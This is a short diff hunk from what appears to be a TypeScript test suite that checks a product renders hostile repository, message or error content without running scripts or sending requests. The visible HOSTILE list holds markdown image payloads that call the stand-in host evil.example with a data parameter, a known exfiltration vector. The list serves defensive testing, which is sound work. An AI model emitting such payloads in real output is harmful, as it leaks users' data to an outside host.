@@ -5,7 +5,7 @@ import { buildRepository, type GitServer, serveRepositories, type TestRepository
 import { openBrowser } from './browser.ts';
 import { callApi, PASSWORD, type Product, startProduct } from './product.ts';
 
-/** What a repository, a message or an error may hold. Rendered anywhere, it may run nothing and reach nobody. */
+/** Hostile content of a repository, a message or an error. Rendered anywhere, it must run no script and send no request. */
 const HOSTILE = [
   '![x](https://evil.example/?d=S)',
   '![x](//evil.example/?d=S)',
